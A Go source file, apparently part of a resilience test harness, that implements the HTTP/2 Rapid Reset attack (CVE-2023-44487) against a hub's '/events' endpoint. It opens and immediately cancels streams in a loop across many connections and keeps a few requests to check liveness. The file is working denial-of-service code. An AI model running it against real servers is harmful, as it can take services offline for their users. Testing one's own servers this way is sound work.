//go:build linux

package attack

import (
	"context"

	"golang.org/x/net/http2"
)

// rapidReset opens HTTP/2 streams and cancels each at once, in order to leave work
// behind that the limit on open streams does not count (CVE-2023-44487).
func rapidReset(ctx context.Context, t *trial) {
	t.swarm(ctx, t.n(20), func(ctx context.Context, i int) bool {
		c, err := t.connect(ctx, 1<<20)
		if err != nil {
			return t.failed(ctx, err)
		}
		defer c.close()
		go func() {
			for n := 0; ctx.Err() == nil; n++ {
				id, err := c.open("/events?topic=*&last=10", "accept", "application/x-ndjson")
				if err == nil && n%100 > 0 { // the others show whether the hub still answers
					err = c.write(func() error { return c.framer.WriteRSTStream(id, http2.ErrCodeCancel) })
				}
				if err != nil {
					return // read reports the failure
				}
			}
		}()
		return t.failed(ctx, c.read(ctx))
	})
}
